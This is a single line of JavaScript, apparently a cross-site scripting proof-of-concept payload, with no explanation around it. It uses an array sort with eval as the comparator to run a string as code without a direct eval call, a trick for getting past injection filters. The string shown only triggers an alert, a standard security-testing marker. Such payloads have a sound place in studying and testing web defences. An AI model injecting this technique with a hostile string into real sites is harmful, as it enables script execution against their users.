["alert(1)", "2"].sort(eval);
